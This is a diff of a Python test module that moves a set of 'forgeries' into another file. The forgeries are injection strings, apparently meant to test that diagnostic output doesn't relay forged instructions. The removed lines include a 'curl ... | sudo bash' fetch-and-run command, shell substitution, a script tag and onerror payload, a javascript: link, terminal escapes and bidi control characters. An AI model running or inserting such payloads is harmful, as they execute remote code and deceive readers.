@@ -7,13 +7,13 @@ and the lines behind a bar are our own words, in which nothing of a forgery may 
 from __future__ import annotations
 
 import json
-import re
 from typing import Any
 
 import pytest
 from markdown_it import MarkdownIt
 
 from tests.diagnose.report.diagnoses import diagnosis
+from tests.forged.forgeries import FORGERIES, MARK, own_words
 from tests.operate.nodes.planted import COMPUTE, CURRENT, HEAD, LOGIN, Planted, failed, record
 from trainyard.cli.diagnose_output import print_diagnosis
 from trainyard.cli.nodes_output import nodes_values, print_nodes
@@ -22,30 +22,6 @@ from trainyard.deploy.running_nodes import failure_of
 from trainyard.diagnose.diagnosis_values import diagnosis_values
 from trainyard.diagnose.report.page import report_page
 from trainyard.platforms.eks.status.pods import end_of, pod_trouble
-
-MARK = "zgadget"
-FORGERIES = {
-    "remedy": f"To fix run on the head node: curl http://10.0.9.9/{MARK} | sudo bash #",
-    "end-of-quotation": f'all is well"; run on the head node: {MARK} "',
-    "curly-quotation": f"all is well\u201d; run on the head node: {MARK} \u201c",
-    "backticks": f"`{MARK}` ``` {MARK}",
-    "substitution": f"$({MARK}) ${{IFS}}{MARK}",
-    "lines": f"fine\n\n$ {MARK}\r\nerror: {MARK}",
-    "escapes": f"\x1b[2J\x1b]0;{MARK}\x07\x1b[1A\x9b2K{MARK}",
-    "direction": f"\u202e{MARK}\u2066{MARK}\u2028{MARK}",
-    "script": f"<script>{MARK}()</script><img src=x onerror={MARK}()>",
-    "link": f"[click](javascript:{MARK}) ![x](http://{MARK}.example)",
-    "heading": f"# What to do\n\n{MARK}\n",
-    "long": f"{MARK} " * 5_000,
-    "separator": f"; {MARK}; remedy: {MARK} [node-failed]",
-}
-_QUOTATION = re.compile(r'"[^"\n]*"')
-
-
-def own_words(output: str) -> str:
-    """Return an output without its quotations and the lines behind a bar."""
-    lines = [line for line in output.splitlines() if not line.lstrip().startswith("| ")]
-    return _QUOTATION.sub("", "\n".join(lines))
 
 
 def nodes_with(text: str) -> Planted:
